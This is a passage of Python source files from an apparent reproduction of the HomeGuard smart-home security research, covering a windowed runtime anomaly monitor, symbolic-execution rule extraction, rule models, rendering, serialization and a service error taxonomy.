                        detail=f"command loop {path} in {self.window:g}s",
                        window_seconds=self.window,
                        dedup=cycle_id,
                    )
                ]
                self._trail.clear()
        self._trail.push(now, channel)
        return finding


def default_anomaly_rules() -> list[MonitorRule]:
    """The shipped anomaly catalog with default thresholds."""
    return [
        ToggleSpamRule(),
        PowerAnomalyRule(),
        OffHoursRule(),
        CommandLoopRule(),
    ]
