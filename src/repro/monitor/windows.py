"""Sliding time windows and rolling baselines for the runtime monitor.

The monitor's rules (DESIGN.md §16) are all windowed computations over
an *event-time* axis: timestamps come from the event stream itself (or
an injected clock), never from ``time.time()``, so offline replay of a
recorded trace produces byte-identical observations to the live run.
"""

from __future__ import annotations

from collections import deque


class SlidingWindow:
    """A bounded window of ``(timestamp, item)`` pairs.

    ``push`` appends and prunes; an item stays visible while
    ``now - timestamp < span``.  Timestamps are expected to be
    monotonically non-decreasing (the engine enforces that), so
    pruning pops from the left only.
    """

    __slots__ = ("span", "_items")

    def __init__(self, span: float) -> None:
        self.span = float(span)
        self._items: deque[tuple[float, object]] = deque()

    def push(self, timestamp: float, item: object) -> None:
        self._items.append((timestamp, item))
        self.prune(timestamp)

    def prune(self, now: float) -> None:
        horizon = now - self.span
        items = self._items
        while items and items[0][0] <= horizon:
            items.popleft()

    def clear(self) -> None:
        self._items.clear()

    def items(self) -> list[tuple[float, object]]:
        return list(self._items)

    def __len__(self) -> int:
        return len(self._items)

    def __iter__(self):
        return iter(self._items)


class RollingBaseline:
    """A rolling mean over the last ``size`` samples.

    The power-anomaly rule compares each reading against this baseline
    (SNIPPETS 2–3: a reading far above the historical average is
    flagged); bounded so one home's baseline is O(1) memory.
    """

    __slots__ = ("_samples", "_total")

    def __init__(self, size: int = 32) -> None:
        self._samples: deque[float] = deque(maxlen=max(1, int(size)))
        self._total = 0.0

    def push(self, value: float) -> None:
        samples = self._samples
        if len(samples) == samples.maxlen:
            self._total -= samples[0]
        samples.append(value)
        self._total += value

    @property
    def count(self) -> int:
        return len(self._samples)

    def mean(self) -> float:
        if not self._samples:
            return 0.0
        return self._total / len(self._samples)
