"""The per-home monitor engine (DESIGN.md §16).

A :class:`MonitorEngine` consumes one home's event stream — live from
the runtime :class:`~repro.runtime.events.EventBus` (via a bus tap),
from batched fleet ingestion, or from a recorded JSONL trace — runs
every registered :class:`~repro.monitor.rules.MonitorRule`, and turns
their findings into deduplicated :class:`Observation`\\ s.

Time is *event time*: the engine's clock only moves forward
(``max(seen timestamps)``), with an optional injected monotonic clock
(the :mod:`repro.resilience` idiom) merged in for live attachment, so
replaying a recorded trace yields byte-identical observations to the
live run that produced it.

Exactly-once: every observation has a deterministic key (SHA-256 over
home, rule, kind, subject, threat key and the rule's dedup context).
The engine drops keys it has already emitted; callers that persist
observations (the tenant home's ledger) seed ``seen`` on rebuild, so
eviction, restarts and replayed batches can never double-count.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import asdict, dataclass
from typing import Callable, Iterable

from repro.monitor.rules import (
    KIND_ANOMALY,
    KIND_CONFIRMED,
    KIND_CONTRADICTED,
    Finding,
    MonitorRule,
)
from repro.runtime.events import Event, EventBus


@dataclass(frozen=True, slots=True)
class Observation:
    """One deduplicated monitor observation (the engine-internal twin
    of the wire :class:`~repro.service.schemas.ObservationRecord`)."""

    key: str
    home_id: str
    rule: str
    kind: str
    subject: str
    threat_key: str = ""
    detail: str = ""
    timestamp: float = 0.0
    window_seconds: float = 0.0

    def to_json(self) -> dict:
        return asdict(self)

    @staticmethod
    def from_json(data: dict) -> "Observation":
        return Observation(
            key=str(data.get("key", "")),
            home_id=str(data.get("home_id", "")),
            rule=str(data.get("rule", "")),
            kind=str(data.get("kind", "")),
            subject=str(data.get("subject", "")),
            threat_key=str(data.get("threat_key", "")),
            detail=str(data.get("detail", "")),
            timestamp=float(data.get("timestamp", 0.0)),
            window_seconds=float(data.get("window_seconds", 0.0)),
        )


def observation_key(
    home_id: str,
    rule: str,
    kind: str,
    subject: str,
    threat_key: str = "",
    dedup: str = "",
) -> str:
    """The deterministic identity of one observation."""
    material = "\x1f".join((home_id, rule, kind, subject, threat_key, dedup))
    return hashlib.sha256(material.encode("utf-8")).hexdigest()[:16]


class MonitorEngine:
    """Sliding-window analytics over one home's event stream."""

    def __init__(
        self,
        home_id: str,
        rules: Iterable[MonitorRule] | None = None,
        *,
        clock: Callable[[], float] | None = None,
        seen: Iterable[str] | None = None,
    ) -> None:
        self.home_id = home_id
        self._clock = clock
        self._rules: list[MonitorRule] = []
        self._by_channel: dict[tuple[str, str], list[MonitorRule]] = {}
        self._wildcard: list[MonitorRule] = []
        self._seen: set[str] = set(seen or ())
        self._now = 0.0
        #: Observations produced through a live bus tap, drained by the
        #: owner (``ingest`` returns them directly instead).
        self.pending: list[Observation] = []
        self._tap_owner: str | None = None
        # Counters (event-stream accounting, mirrored into
        # DetectionStats by the tenant home).
        self.events_seen = 0
        self.observations = 0
        self.confirmed = 0
        self.contradicted = 0
        self.anomalies = 0
        for rule in rules or ():
            self.add_rule(rule)

    # ------------------------------------------------------------------
    # Rule registry

    @property
    def rules(self) -> list[MonitorRule]:
        return list(self._rules)

    def add_rule(self, rule: MonitorRule) -> None:
        self._rules.append(rule)
        if rule.channels is None:
            self._wildcard.append(rule)
        else:
            for channel in sorted(rule.channels):
                self._by_channel.setdefault(channel, []).append(rule)

    def set_rules(self, rules: Iterable[MonitorRule]) -> None:
        """Replace the rule set (recompiled confirmations after a new
        install decision).  Emitted-observation dedup state survives —
        a recompiled threat rule cannot re-confirm a confirmed threat."""
        self._rules = []
        self._by_channel = {}
        self._wildcard = []
        for rule in rules:
            self.add_rule(rule)

    # ------------------------------------------------------------------
    # Ingestion

    def now(self) -> float:
        """The engine's current event-time clock."""
        return self._now

    def ingest(self, event: Event) -> list[Observation]:
        """Run one event through the rules; returns *new* observations
        (already deduplicated against everything ever emitted)."""
        now = event.timestamp
        if self._clock is not None:
            clocked = self._clock()
            if clocked > now:
                now = clocked
        if now > self._now:
            self._now = now
        else:
            now = self._now
        self.events_seen += 1
        emitted: list[Observation] = []
        channel_rules = self._by_channel.get((event.subject, event.name))
        if channel_rules:
            for rule in channel_rules:
                self._run_rule(rule, event, now, emitted)
        for rule in self._wildcard:
            if (
                rule.attributes is not None
                and event.name not in rule.attributes
            ):
                continue
            self._run_rule(rule, event, now, emitted)
        return emitted

    def _run_rule(
        self,
        rule: MonitorRule,
        event: Event,
        now: float,
        emitted: list[Observation],
    ) -> None:
        for finding in rule.observe(event, now):
            observation = self._stamp(rule.name, finding, now)
            if observation is not None:
                emitted.append(observation)

    def _stamp(
        self, rule_name: str, finding: Finding, now: float
    ) -> Observation | None:
        key = observation_key(
            self.home_id,
            rule_name,
            finding.kind,
            finding.subject,
            finding.threat_key,
            finding.dedup,
        )
        if key in self._seen:
            return None
        self._seen.add(key)
        self.observations += 1
        if finding.kind == KIND_CONFIRMED:
            self.confirmed += 1
        elif finding.kind == KIND_CONTRADICTED:
            self.contradicted += 1
        elif finding.kind == KIND_ANOMALY:
            self.anomalies += 1
        return Observation(
            key=key,
            home_id=self.home_id,
            rule=rule_name,
            kind=finding.kind,
            subject=finding.subject,
            threat_key=finding.threat_key,
            detail=finding.detail,
            timestamp=now,
            window_seconds=finding.window_seconds,
        )

    def ingest_batch(self, events: Iterable[Event]) -> list[Observation]:
        emitted: list[Observation] = []
        for event in events:
            emitted.extend(self.ingest(event))
        return emitted

    def replay_jsonl(self, lines: Iterable[str]) -> list[Observation]:
        """Offline replay of a recorded trace: one JSON event object
        per line (``subject``, ``attribute`` or ``name``, ``value``,
        ``timestamp``).  Unparseable lines are skipped — a truncated
        trace degrades to the events before the tear."""
        emitted: list[Observation] = []
        for line in lines:
            line = line.strip()
            if not line:
                continue
            try:
                data = json.loads(line)
                event = Event(
                    subject=str(data["subject"]),
                    name=str(data.get("attribute", data.get("name"))),
                    value=data.get("value"),
                    timestamp=float(data.get("timestamp", 0.0)),
                )
            except (ValueError, TypeError, KeyError):
                continue
            emitted.extend(self.ingest(event))
        return emitted

    # ------------------------------------------------------------------
    # Live attachment

    def attach(self, bus: EventBus) -> str:
        """Tap a live event bus: every published event flows through
        :meth:`ingest` and new observations accumulate in
        :attr:`pending` until :meth:`drain` collects them."""
        owner = f"monitor:{self.home_id}"
        bus.add_tap(self._on_event, owner)
        self._tap_owner = owner
        return owner

    def detach(self, bus: EventBus) -> None:
        if self._tap_owner is not None:
            bus.unsubscribe_owner(self._tap_owner)
            self._tap_owner = None

    def _on_event(self, event: Event) -> None:
        self.pending.extend(self.ingest(event))

    def drain(self) -> list[Observation]:
        drained, self.pending = self.pending, []
        return drained

    # ------------------------------------------------------------------

    def counters(self) -> dict[str, int]:
        return {
            "events_seen": self.events_seen,
            "observations": self.observations,
            "confirmed": self.confirmed,
            "contradicted": self.contradicted,
            "anomalies": self.anomalies,
        }

    def __repr__(self) -> str:
        return (
            f"MonitorEngine({self.home_id!r}, rules={len(self._rules)}, "
            f"events={self.events_seen}, observations={self.observations})"
        )
