"""Rule extraction facade (the paper's Rule Extractor module, Fig. 6).

Wraps the symbolic executor with app-name inference, a persistent rule
database interface (offline extraction; see
:class:`repro.config.recorder.RuleRecorder` for the online side) and the
pre-fix/strict behaviour used to reproduce the coverage numbers of
§VIII-B.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.lang import ParseError, parse
from repro.lang.errors import LexError
from repro.rules.model import RuleSet
from repro.symex.engine import SymbolicExecutionError, SymbolicExecutor


class ExtractionError(Exception):
    """The app could not be analysed (parse failure or unsupported
    construct)."""


@dataclass(slots=True)
class ExtractionReport:
    """Outcome of one extraction, with diagnostics."""

    ruleset: RuleSet
    warnings: list[str] = field(default_factory=list)


class RuleExtractor:
    """Extracts and caches rule sets for SmartApp sources.

    The extractor is the platform-specific part of HomeGuard; it exposes
    an API for querying rules of an app by name (backed by the cache)
    and on-demand extraction for custom apps.
    """

    def __init__(self, strict_device_types: bool = False) -> None:
        self._strict = strict_device_types
        self._cache: dict[str, ExtractionReport] = {}

    def extract(self, source: str, app_name: str | None = None) -> RuleSet:
        return self.extract_with_report(source, app_name).ruleset

    def extract_with_report(
        self, source: str, app_name: str | None = None
    ) -> ExtractionReport:
        try:
            module = parse(source)
        except (ParseError, LexError) as exc:
            raise ExtractionError(f"cannot parse app: {exc}") from exc
        try:
            executor = SymbolicExecutor(
                module,
                app_name=app_name or "",
                strict_device_types=self._strict,
            )
            ruleset = executor.run()
        except SymbolicExecutionError as exc:
            raise ExtractionError(str(exc)) from exc
        report = ExtractionReport(ruleset=ruleset, warnings=executor.warnings)
        self._cache[ruleset.app_name] = report
        return report

    def rules_of(self, app_name: str) -> RuleSet | None:
        """Query the rules of a previously extracted app (the backend
        database lookup the HomeGuard app performs, §VII-B)."""
        report = self._cache.get(app_name)
        return report.ruleset if report else None

    def known_apps(self) -> list[str]:
        return sorted(self._cache)


def extract_rules(source: str, app_name: str | None = None) -> RuleSet:
    """One-shot extraction convenience wrapper."""
    return RuleExtractor().extract(source, app_name)
