"""Rule representation, extraction and interpretation (paper §V).

A rule is the paper's trigger-condition-action tuple.  The
:class:`RuleExtractor` runs the symbolic executor over SmartApp source
and assembles one :class:`Rule` per explored path; rules serialize to
JSON rule files and render to the human-readable form shown by the
HomeGuard frontend.
"""

from repro.rules.model import (
    Action,
    Condition,
    DataConstraint,
    Rule,
    RuleSet,
    Trigger,
)

__all__ = [
    "Action",
    "Condition",
    "DataConstraint",
    "ExtractionError",
    "Rule",
    "RuleExtractor",
    "RuleSet",
    "Trigger",
    "describe_rule",
    "describe_trigger",
    "extract_rules",
    "rule_from_json",
    "rule_to_json",
    "ruleset_from_json",
    "ruleset_to_json",
]

# The extractor depends on the symbolic engine, which itself imports
# this package for the rule model; loading those names lazily keeps the
# import graph acyclic regardless of which module is imported first.
_LAZY = {
    "ExtractionError": ("repro.rules.extractor", "ExtractionError"),
    "RuleExtractor": ("repro.rules.extractor", "RuleExtractor"),
    "extract_rules": ("repro.rules.extractor", "extract_rules"),
    "describe_rule": ("repro.rules.interpreter", "describe_rule"),
    "describe_trigger": ("repro.rules.interpreter", "describe_trigger"),
    "rule_from_json": ("repro.rules.serialization", "rule_from_json"),
    "rule_to_json": ("repro.rules.serialization", "rule_to_json"),
    "ruleset_from_json": ("repro.rules.serialization", "ruleset_from_json"),
    "ruleset_to_json": ("repro.rules.serialization", "ruleset_to_json"),
}


def __getattr__(name: str):
    if name in _LAZY:
        import importlib

        module_name, attr = _LAZY[name]
        module = importlib.import_module(module_name)
        return getattr(module, attr)
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")
