"""The structured rule representation (paper §V-A, Listing 2).

::

    Trigger:
        (:subject).(:attribute)
        (:constraint)
    Condition:
        (:data constraints)
        (:predicate constraints)
    Action:
        (:subject)->(:command)(:paras)(:when)(:period)
        (:data constraints)

``when`` is the scheduled delay in seconds and ``period`` the repetition
interval; both default to 0 (issue immediately, once).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.symex.values import DeviceRef, SymExpr


@dataclass(frozen=True, slots=True)
class Trigger:
    """What fires the rule.

    ``subject`` is the subscribed entity: a device reference, the string
    ``"location"`` (mode/position events), ``"app"`` (app touch) or
    ``"time"`` (scheduled rules).  ``constraint`` restricts the event
    value (``None`` means any state change fires the rule).
    """

    subject: str
    attribute: str
    constraint: SymExpr | None = None
    device: DeviceRef | None = None

    @property
    def is_scheduled(self) -> bool:
        return self.subject == "time"


@dataclass(frozen=True, slots=True)
class DataConstraint:
    """A value-flow fact recorded along the path: ``name = expr``."""

    name: str
    value: SymExpr

    def __str__(self) -> str:
        return f"{self.name} = {self.value}"


@dataclass(frozen=True, slots=True)
class Condition:
    """Path constraints that must hold for the action to run."""

    data_constraints: tuple[DataConstraint, ...] = ()
    predicate_constraints: tuple[SymExpr, ...] = ()

    @property
    def is_trivial(self) -> bool:
        return not self.predicate_constraints


@dataclass(frozen=True, slots=True)
class Action:
    """A command issued to an actuator (or a sensitive platform API).

    ``subject`` names the device input the command targets (or a
    platform pseudo-subject such as ``"location"`` or ``"sms"``);
    ``params`` are symbolic command arguments; ``when`` / ``period``
    carry scheduling information attached by the API models.
    """

    subject: str
    command: str
    params: tuple[SymExpr, ...] = ()
    # Delay / repetition interval in seconds; a SymExpr when the value is
    # user-configured (e.g. `runIn(minutes * 60, handler)`).
    when: float | SymExpr = 0.0
    period: float | SymExpr = 0.0
    data_constraints: tuple[DataConstraint, ...] = ()
    device: DeviceRef | None = None
    capability: str | None = None

    @property
    def is_delayed(self) -> bool:
        return isinstance(self.when, SymExpr) or self.when != 0


@dataclass(frozen=True, slots=True)
class Rule:
    """One trigger-condition-action tuple extracted from an app."""

    app_name: str
    rule_id: str
    trigger: Trigger
    condition: Condition
    action: Action

    def devices(self) -> list[DeviceRef]:
        """All device references the rule touches (trigger + condition +
        action), used for device-binding constraints."""
        refs: dict[str, DeviceRef] = {}
        if self.trigger.device is not None:
            refs[self.trigger.device.name] = self.trigger.device
        if self.trigger.constraint is not None:
            for node in self.trigger.constraint.walk():
                if isinstance(node, DeviceRef):
                    refs.setdefault(node.name, node)
        for constraint in self.condition.predicate_constraints:
            for node in constraint.walk():
                if isinstance(node, DeviceRef):
                    refs.setdefault(node.name, node)
        for data in self.condition.data_constraints:
            for node in data.value.walk():
                if isinstance(node, DeviceRef):
                    refs.setdefault(node.name, node)
        if self.action.device is not None:
            refs.setdefault(self.action.device.name, self.action.device)
        return list(refs.values())


@dataclass(slots=True)
class RuleSet:
    """All rules extracted from one app, plus its input declarations."""

    app_name: str
    rules: list[Rule] = field(default_factory=list)
    inputs: dict[str, SymExpr] = field(default_factory=dict)

    def __iter__(self):
        return iter(self.rules)

    def __len__(self) -> int:
        return len(self.rules)

    def device_inputs(self) -> dict[str, DeviceRef]:
        return {
            name: ref
            for name, ref in self.inputs.items()
            if isinstance(ref, DeviceRef)
        }
