"""Human-readable rule rendering (the frontend's Rule Interpreter).

The HomeGuard frontend shows the extracted rules to the user during app
installation so they can check the app behaves as its description claims
(paper Fig. 6 / Fig. 7b).  The rendering follows the paper's
"when <trigger> if <condition> then <action>" phrasing.
"""

from __future__ import annotations

from repro.rules.model import Action, Condition, Rule, Trigger
from repro.symex.values import (
    BinExpr,
    CallExpr,
    Concat,
    Const,
    DeviceAttr,
    DeviceRef,
    EventAttr,
    EventValue,
    ListVal,
    LocalVar,
    LocationAttr,
    NotExpr,
    StateVal,
    SymExpr,
    TimeVal,
    UserInput,
)

_OP_WORDS = {
    "==": "is",
    "!=": "is not",
    ">": "is above",
    ">=": "is at least",
    "<": "is below",
    "<=": "is at most",
    "&&": "and",
    "||": "or",
    "in": "is one of",
}


def render_expr(expr: SymExpr, subject_hint: str | None = None) -> str:
    """Render a symbolic expression as a short English phrase."""
    if isinstance(expr, Const):
        return str(expr.value)
    if isinstance(expr, EventValue):
        return subject_hint or "the event value"
    if isinstance(expr, EventAttr):
        return f"the event {expr.attribute}"
    if isinstance(expr, DeviceAttr):
        return f"{expr.device.name}'s {expr.attribute}"
    if isinstance(expr, DeviceRef):
        return expr.name
    if isinstance(expr, UserInput):
        return f"the configured {expr.name}"
    if isinstance(expr, LocalVar):
        return expr.display_name
    if isinstance(expr, StateVal):
        return f"stored {expr.name}"
    if isinstance(expr, LocationAttr):
        return f"the home {expr.attribute}"
    if isinstance(expr, TimeVal):
        return "the current time" if expr.kind == "now" else f"the {expr.kind} time"
    if isinstance(expr, BinExpr):
        word = _OP_WORDS.get(expr.op, expr.op)
        return (
            f"{render_expr(expr.left, subject_hint)} {word} "
            f"{render_expr(expr.right, subject_hint)}"
        )
    if isinstance(expr, NotExpr):
        return f"not ({render_expr(expr.operand, subject_hint)})"
    if isinstance(expr, CallExpr):
        args = ", ".join(render_expr(arg, subject_hint) for arg in expr.args)
        return f"{expr.function}({args})"
    if isinstance(expr, ListVal):
        return "[" + ", ".join(render_expr(item, subject_hint) for item in expr.items) + "]"
    if isinstance(expr, Concat):
        return " + ".join(render_expr(part, subject_hint) for part in expr.parts)
    return str(expr)


def describe_trigger(trigger: Trigger) -> str:
    if trigger.subject == "time":
        return f"on schedule ({trigger.attribute})"
    if trigger.subject == "install":
        return "when the app is installed or updated"
    subject = trigger.subject
    hint = f"{subject}'s {trigger.attribute}"
    if trigger.constraint is None:
        return f"when {hint} changes"
    return f"when {render_expr(trigger.constraint, hint)}"


def describe_condition(condition: Condition) -> str:
    if condition.is_trivial:
        return ""
    parts = [render_expr(p) for p in condition.predicate_constraints]
    return "if " + " and ".join(parts)


def describe_action(action: Action) -> str:
    params = ", ".join(render_expr(param) for param in action.params)
    rendered = f"{action.subject} -> {action.command}"
    if params:
        rendered += f"({params})"
    if isinstance(action.when, (int, float)) and action.when:
        rendered += f" after {_duration(action.when)}"
    elif not isinstance(action.when, (int, float)):
        rendered += " after a configured delay"
    if isinstance(action.period, (int, float)) and action.period:
        rendered += f" every {_duration(action.period)}"
    return rendered


def _duration(seconds: float) -> str:
    seconds = float(seconds)
    if seconds >= 3600 and seconds % 3600 == 0:
        hours = int(seconds // 3600)
        return f"{hours} hour" + ("s" if hours != 1 else "")
    if seconds >= 60 and seconds % 60 == 0:
        minutes = int(seconds // 60)
        return f"{minutes} minute" + ("s" if minutes != 1 else "")
    if seconds == int(seconds):
        seconds = int(seconds)
    return f"{seconds} seconds"


def describe_rule(rule: Rule) -> str:
    """Full "when ... if ... then ..." sentence for one rule."""
    pieces = [describe_trigger(rule.trigger)]
    condition = describe_condition(rule.condition)
    if condition:
        pieces.append(condition)
    pieces.append(f"then {describe_action(rule.action)}")
    return " ".join(pieces)
