"""JSON serialization of rules.

The HomeGuard backend stores one JSON rule file per app (~6.2 KB on
average, paper §VIII-C) and ships it to the companion app at
installation time.  This module provides a loss-free round trip for
:class:`Rule` and :class:`RuleSet`.
"""

from __future__ import annotations

import json

from repro.rules.model import Action, Condition, DataConstraint, Rule, RuleSet, Trigger
from repro.symex.values import SymExpr, from_json, to_json


def _when_to_json(value: float | SymExpr) -> object:
    if isinstance(value, SymExpr):
        return {"sym": to_json(value)}
    # Normalize to float so serialization is a fixed point: decoding
    # always yields floats, and re-encoding a decoded rule must produce
    # byte-identical JSON (store fingerprints hash this form).
    return float(value)


def _when_from_json(data: object) -> float | SymExpr:
    if isinstance(data, dict) and "sym" in data:
        return from_json(data["sym"])
    return float(data)  # type: ignore[arg-type]


def trigger_to_json(trigger: Trigger) -> dict:
    return {
        "subject": trigger.subject,
        "attribute": trigger.attribute,
        "constraint": to_json(trigger.constraint) if trigger.constraint else None,
        "device": to_json(trigger.device) if trigger.device else None,
    }


def trigger_from_json(data: dict) -> Trigger:
    device = from_json(data["device"]) if data.get("device") else None
    return Trigger(
        subject=data["subject"],
        attribute=data["attribute"],
        constraint=from_json(data["constraint"]) if data.get("constraint") else None,
        device=device,
    )


def condition_to_json(condition: Condition) -> dict:
    return {
        "data": [
            {"name": constraint.name, "value": to_json(constraint.value)}
            for constraint in condition.data_constraints
        ],
        "predicates": [to_json(p) for p in condition.predicate_constraints],
    }


def condition_from_json(data: dict) -> Condition:
    return Condition(
        data_constraints=tuple(
            DataConstraint(entry["name"], from_json(entry["value"]))
            for entry in data.get("data", [])
        ),
        predicate_constraints=tuple(
            from_json(entry) for entry in data.get("predicates", [])
        ),
    )


def action_to_json(action: Action) -> dict:
    return {
        "subject": action.subject,
        "command": action.command,
        "params": [to_json(param) for param in action.params],
        "when": _when_to_json(action.when),
        "period": _when_to_json(action.period),
        "data": [
            {"name": constraint.name, "value": to_json(constraint.value)}
            for constraint in action.data_constraints
        ],
        "device": to_json(action.device) if action.device else None,
        "capability": action.capability,
    }


def action_from_json(data: dict) -> Action:
    device = from_json(data["device"]) if data.get("device") else None
    return Action(
        subject=data["subject"],
        command=data["command"],
        params=tuple(from_json(param) for param in data.get("params", [])),
        when=_when_from_json(data.get("when", 0)),
        period=_when_from_json(data.get("period", 0)),
        data_constraints=tuple(
            DataConstraint(entry["name"], from_json(entry["value"]))
            for entry in data.get("data", [])
        ),
        device=device,
        capability=data.get("capability"),
    )


def rule_to_json(rule: Rule) -> dict:
    return {
        "app": rule.app_name,
        "id": rule.rule_id,
        "trigger": trigger_to_json(rule.trigger),
        "condition": condition_to_json(rule.condition),
        "action": action_to_json(rule.action),
    }


def rule_from_json(data: dict) -> Rule:
    return Rule(
        app_name=data["app"],
        rule_id=data["id"],
        trigger=trigger_from_json(data["trigger"]),
        condition=condition_from_json(data["condition"]),
        action=action_from_json(data["action"]),
    )


def ruleset_to_json(ruleset: RuleSet) -> str:
    """Serialize a rule set to the JSON string stored on the backend."""
    payload = {
        "app": ruleset.app_name,
        "rules": [rule_to_json(rule) for rule in ruleset.rules],
        "inputs": {name: to_json(expr) for name, expr in ruleset.inputs.items()},
    }
    return json.dumps(payload, separators=(",", ":"), sort_keys=True)


def ruleset_from_json(text: str) -> RuleSet:
    payload = json.loads(text)
    return RuleSet(
        app_name=payload["app"],
        rules=[rule_from_json(entry) for entry in payload.get("rules", [])],
        inputs={
            name: from_json(entry)
            for name, entry in payload.get("inputs", {}).items()
        },
    )
