"""The :class:`ServiceError` taxonomy (DESIGN.md §11).

Every failure the :class:`~repro.service.service.HomeGuardService`
surface can raise is a :class:`ServiceError` subclass with a *stable
machine-readable code* — the service equivalent of an HTTP error body.
Like the request/response dataclasses in :mod:`repro.service.schemas`,
errors are part of the wire schema: they JSON-round-trip (``to_json`` /
``from_json``) so a remote front end can transport them loss-free, and
they carry the wire schema version so mismatched peers fail loudly.

The taxonomy is closed on purpose: callers dispatch on ``code`` (or the
exception type), never on message text.  Adding a new code is a wire
schema change and must bump :data:`WIRE_SCHEMA_VERSION` (see the
schema-stability test / ``make schema-check``).
"""

from __future__ import annotations

# The version stamped into every wire object (requests, responses and
# errors).  Bump it whenever a wire dataclass gains, loses or renames a
# field, or a new error code is added — the committed schema manifest
# (`schema_manifest.json`) pins field lists per version, and CI fails
# on unversioned drift.
#
# v3 added the fleet-transport surface (DESIGN.md §13): the
# ``ServerStatusRecord`` model plus the ``quota-exceeded``,
# ``unavailable`` and ``request-too-large`` error codes the JSON-RPC
# server returns for admission-control failures.
#
# v4 added the storage-engine counters (DESIGN.md §14):
# ``DetectionStatsRecord`` gained ``store_bytes_written`` /
# ``store_commit_seconds`` (per-home commit cost) and
# ``ServerStatusRecord`` gained ``homes_resident`` (the LRU-bounded
# count of homes hydrated in memory).
#
# v5 added the fault-tolerance surface (DESIGN.md §15):
# ``DetectionStatsRecord`` gained the recovery counters
# ``tasks_retried`` / ``chunks_requeued`` / ``pool_failures`` /
# ``degraded_serial``; ``ServerStatusRecord`` gained ``breaker_states``
# (circuit-breaker state per backend), lifetime ``tasks_retried`` /
# ``degraded_serial`` totals and ``deadline_rejections``; and the
# ``transport-connection`` error code joined the taxonomy (the typed,
# retryable error clients raise for connection failures).
#
# v6 added the runtime-monitor surface (DESIGN.md §16): the
# ``MonitorEventRequest`` / ``ObservationRecord`` models (device-event
# ingestion and the monitor's confirmed/contradicted/anomaly
# observations); ``DetectionStatsRecord`` gained the monitor counters
# ``monitor_events`` / ``monitor_observations`` / ``threats_confirmed``
# / ``threats_contradicted`` / ``anomalies_flagged``; and
# ``ServerStatusRecord`` gained service-lifetime ``monitor_events`` /
# ``monitor_observations`` totals.
WIRE_SCHEMA_VERSION = 6


class ServiceError(Exception):
    """Base class: a service request failed in a describable way."""

    code = "service-error"

    def __init__(self, message: str, **details: object) -> None:
        super().__init__(message)
        self.message = message
        self.details: dict[str, object] = dict(details)

    def to_json(self) -> dict:
        """The error as a wire record (kind + schema + code + text)."""
        return {
            "kind": "ServiceError",
            "schema": WIRE_SCHEMA_VERSION,
            "code": self.code,
            "message": self.message,
            "details": dict(self.details),
        }

    @staticmethod
    def from_json(data: dict) -> "ServiceError":
        """Rebuild a transported error as its taxonomy subclass.

        Codes outside the taxonomy decode as the base class with the
        transported ``code`` preserved on the instance, so callers
        dispatching on ``code`` still see what the peer sent; a wrong
        ``kind``/``schema`` raises :class:`SchemaMismatchError` like
        any other wire decode."""
        if not isinstance(data, dict) or data.get("kind") != "ServiceError":
            raise SchemaMismatchError(
                f"not a ServiceError record: {data!r}"
            )
        if data.get("schema") != WIRE_SCHEMA_VERSION:
            raise SchemaMismatchError(
                f"wire schema {data.get('schema')!r} != "
                f"{WIRE_SCHEMA_VERSION} (ServiceError)"
            )
        code = str(data.get("code"))
        cls = ERROR_CODES.get(code, ServiceError)
        error = cls(str(data.get("message", "")))
        if cls is ServiceError:
            error.code = code  # preserve an out-of-taxonomy peer code
        details = data.get("details")
        # Assigned, not splatted: a wire-controlled details object must
        # not be able to collide with constructor arguments.
        if isinstance(details, dict):
            error.details = {str(key): value for key, value in details.items()}
        return error

    def __repr__(self) -> str:
        return f"{type(self).__name__}({self.message!r})"


class UnknownHomeError(ServiceError):
    """The request names a ``home_id`` the service is not managing."""

    code = "unknown-home"


class DuplicateHomeError(ServiceError):
    """``create_home`` for a ``home_id`` that already exists."""

    code = "duplicate-home"


class UnknownAppError(ServiceError):
    """No rules are available for the requested app (the offline
    extraction never ran and the request carried no source)."""

    code = "unknown-app"


class UnknownSessionError(ServiceError):
    """The decision names a session id the service never issued."""

    code = "unknown-session"


class SessionDecidedError(ServiceError):
    """The session already received its one-time decision (paper
    §VIII-D.1: install decisions are one-shot, never re-prompted)."""

    code = "session-decided"


class InvalidRequestError(ServiceError):
    """A request field failed validation (bad decision verb, empty
    home id, malformed devices mapping, ...)."""

    code = "invalid-request"


class SchemaMismatchError(ServiceError):
    """A wire record failed to decode: wrong kind, wrong schema
    version, missing or unknown fields."""

    code = "schema-mismatch"


class QuotaExceededError(ServiceError):
    """The tenant ran ahead of its token-bucket request quota
    (DESIGN.md §13).  Retryable: the bucket refills at the tenant's
    configured rate — back off and resend."""

    code = "quota-exceeded"


class UnavailableError(ServiceError):
    """The server cannot take the request right now — it is draining
    toward shutdown, or admission control found the tenant (or the
    whole server) at its max-inflight bound.  The 503 of the taxonomy:
    always retryable against a live or restarted server, never a
    statement about the request itself."""

    code = "unavailable"


class RequestTooLargeError(ServiceError):
    """The transport frame exceeded the server's request-size cap.
    Not retryable as-is; the 413 of the taxonomy."""

    code = "request-too-large"


class TransportConnectionError(ServiceError, ConnectionError):
    """The client could not reach the server, or the connection died
    mid-request (refused, reset, timed out).  Raised *client-side* by
    :class:`~repro.service.transport.client.FleetClient` — it never
    travels on the wire, but it lives in the taxonomy so callers catch
    one exception family for everything a fleet call can do.  Also a
    :class:`ConnectionError`, so pre-taxonomy callers catching
    ``OSError`` keep working.  Retryable: pair the client with a
    :class:`~repro.resilience.RetryPolicy`."""

    code = "transport-connection"


# Stable code -> class dispatch used by ServiceError.from_json and the
# schema manifest (the taxonomy itself is part of the wire contract).
ERROR_CODES: dict[str, type[ServiceError]] = {
    cls.code: cls
    for cls in (
        ServiceError,
        UnknownHomeError,
        DuplicateHomeError,
        UnknownAppError,
        UnknownSessionError,
        SessionDecidedError,
        InvalidRequestError,
        SchemaMismatchError,
        QuotaExceededError,
        UnavailableError,
        RequestTooLargeError,
        TransportConnectionError,
    )
}

# Codes a client may safely retry with backoff: the failure is about
# the channel or momentary server state, never about the request.
RETRYABLE_CODES = frozenset({"unavailable", "transport-connection"})
