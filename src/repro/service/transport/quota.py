"""Per-tenant quotas and admission control (DESIGN.md §13).

Two independent gates stand between a decoded request and the fair
scheduler:

* **Token-bucket quotas** bound each tenant's sustained request *rate*.
  Every tenant gets a :class:`TokenBucket` (from its
  :class:`TenantQuota`); a request that finds the bucket empty is
  rejected with :class:`~repro.service.errors.QuotaExceededError` —
  retryable once the bucket refills.  ``rate=0`` buckets never refill,
